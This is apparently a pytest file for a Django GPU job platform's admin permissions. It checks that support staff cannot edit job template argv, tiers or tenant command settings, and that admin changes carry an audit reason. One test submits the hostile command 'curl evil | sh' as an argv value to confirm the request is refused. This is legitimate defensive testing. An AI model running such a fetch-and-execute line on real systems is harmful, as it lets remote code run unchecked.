"""Staff with least privilege (apps/tenants/roles.py): support staff are not superusers; changing
a template's argv, a tier or a tenant's allow_commands needs "platform admin"; every admin change
or action is in the audit log with who and why (apps/tenants/audit.py)."""

import json
from io import StringIO

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.test import Client

from apps.jobs.models import Job, JobTemplate
from apps.nodes.models import Node
from apps.tenants import roles
from apps.tenants.models import Quota, Tenant, Tier
from tests.factories import make_cast, make_node
from tests.unit.test_dispatcher import submit


@pytest.fixture
def cast(db):
    return make_cast()


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def template_form(template: JobTemplate, **changes) -> dict:
    data = {
        "name": template.name, "description": template.description, "argv": json.dumps(template.argv),
        "params_schema": json.dumps(template.params_schema), "version": template.version,
        "default_max_runtime_seconds": template.default_max_runtime_seconds,
        "memory_mib": template.memory_mib, "pids_max": template.pids_max, "cpu_weight": template.cpu_weight,
        **({"checkpointable": "on"} if template.checkpointable else {}),
        **({"cacheable": "on"} if template.cacheable else {}),
    }  # fmt: skip
    return {**data, **changes}


def test_create_user_staff_makes_a_support_user_not_a_superuser(db):
    call_command("create_user", "sam", "--staff", stdout=StringIO())
    sam = User.objects.get(username="sam")
    assert sam.is_staff and not sam.is_superuser
    assert list(sam.groups.values_list("name", flat=True)) == [roles.SUPPORT]
    assert (
        sam.has_perm("jobs.change_job")
        and sam.has_perm("nodes.change_node")
        and sam.has_perm("tenants.change_quota")
    )
    assert not sam.has_perm("jobs.change_jobtemplate") and not sam.has_perm("tenants.change_tier")
    assert not sam.has_perm("tenants.change_tenant")
    call_command("create_user", "olive", "--superuser", stdout=StringIO())
    assert User.objects.get(username="olive").is_superuser


def test_the_migration_made_both_groups_with_their_permissions(db):
    support, admin = (
        Group.objects.get(name=roles.SUPPORT),
        Group.objects.get(name=roles.PLATFORM_ADMIN),
    )
    support_codes = set(support.permissions.values_list("codename", flat=True))
    assert {"change_job", "change_node", "change_quota", "view_jobtemplate"} <= support_codes
    assert "change_jobtemplate" not in support_codes and "change_tenant" not in support_codes
    assert {"change_jobtemplate", "change_tier", "change_tenant"} <= set(
        admin.permissions.values_list("codename", flat=True)
    )


def test_support_cannot_change_a_templates_argv(cast):
    staff = signed_in(cast["staff"][0])
    template = JobTemplate.objects.get(name="demo-train")
    url = f"/admin/jobs/jobtemplate/{template.pk}/change/"
    assert staff.get(url).status_code == 200  # may look
    response = staff.post(
        url,
        template_form(template, argv=json.dumps(["sh", "-c", "curl evil | sh"]), audit_reason="x"),
    )
    assert response.status_code == 403
    assert JobTemplate.objects.get(pk=template.pk).argv == template.argv
    tier, tenant = Tier.objects.get(name="pro"), Tenant.objects.get(slug="globex")
    assert (
        staff.post(f"/admin/tenants/tier/{tier.pk}/change/", {"name": "pro", "rank": 1}).status_code
        == 403
    )
    assert (
        staff.post(
            f"/admin/tenants/tenant/{tenant.pk}/change/", {"allow_commands": "on"}
        ).status_code
        == 403
    )
    assert not Tenant.objects.get(pk=tenant.pk).allow_commands


def test_a_platform_admin_changes_argv_and_the_change_is_in_the_audit_log(cast):
    user = cast["staff"][0]
    user.groups.add(Group.objects.get(name=roles.PLATFORM_ADMIN))
    admin = signed_in(user)
    template = JobTemplate.objects.get(name="demo-train")
    url = f"/admin/jobs/jobtemplate/{template.pk}/change/"
    new_argv = ["{python}", "-m", "gpuplatform_job.demo_train", "--v2"]
    unexplained = admin.post(url, template_form(template, argv=json.dumps(new_argv)))
    assert (
        unexplained.status_code == 200 and b"audit_reason" in unexplained.content
    )  # a reason is required
    assert JobTemplate.objects.get(pk=template.pk).argv == template.argv
    response = admin.post(
        url, template_form(template, argv=json.dumps(new_argv), audit_reason="ticket 42: new flag")
    )
    assert response.status_code == 302, response.content
    assert JobTemplate.objects.get(pk=template.pk).argv == new_argv
    entry = LogEntry.objects.get(object_id=str(template.pk), content_type__model="jobtemplate")
    assert entry.user == user and entry.is_change()
    message = entry.get_change_message()
    assert "Argv" in message and repr(template.argv) in message and repr(new_argv) in message
    assert "Why: ticket 42: new flag" in message


def test_support_edits_a_quota_with_a_reason_in_the_log(cast):
    staff = signed_in(cast["staff"][0])
    quota = Quota.objects.get(tenant__slug="globex")
    url = f"/admin/tenants/quota/{quota.pk}/change/"
    response = staff.post(
        url,
        {
            "tenant": quota.tenant_id,
            "max_queued_jobs": 7,
            "max_gpus": "{}",
            "audit_reason": "asked by globex",
        },
    )
    assert response.status_code == 302, response.content
    assert Quota.objects.get(pk=quota.pk).max_queued_jobs == 7
    entry = LogEntry.objects.get(object_id=str(quota.pk), content_type__model="quota")
    assert (
        entry.user.username == "staff"
        and "None -> 7" in entry.change_message
        and "asked by globex" in entry.change_message
    )


def test_support_actions_are_audited_with_who_and_why(cast):
    staff = signed_in(cast["staff"][0])
    node = make_node("h1", gpus=2)
    job = submit(cast, gpus=1)
    response = staff.post(
        "/admin/jobs/job/",
        {"action": "cancel_jobs", "_selected_action": [job.pk], "reason": "user asked"},
    )
    assert response.status_code == 302
    event = job.events.get(to_state="cancelled")
    assert event.actor == "staff:staff" and event.reason == "cancelled by support: user asked"
    response = staff.post(
        "/admin/nodes/node/",
        {"action": "make_cordoned", "_selected_action": [node.pk], "reason": "bad fan"},
    )
    assert response.status_code == 302 and Node.objects.get(pk=node.pk).state == "cordoned"
    entry = LogEntry.objects.get(object_id=str(node.pk), content_type__model="node")
    assert (
        entry.user.username == "staff" and entry.change_message == "state set to cordoned: bad fan"
    )


def test_nobody_edits_a_jobs_command_through_the_admin_form(cast):
    staff = signed_in(cast["staff"][0])
    job = submit(cast, gpus=1)
    assert staff.get(f"/admin/jobs/job/{job.pk}/change/").status_code == 200  # read only, yet shown
    staff.post(
        f"/admin/jobs/job/{job.pk}/change/", {"command": json.dumps(["sh", "-c", "id"]), "gpus": 8}
    )
    stored = Job.objects.get(pk=job.pk)
    assert stored.command == job.command and stored.gpus == 1
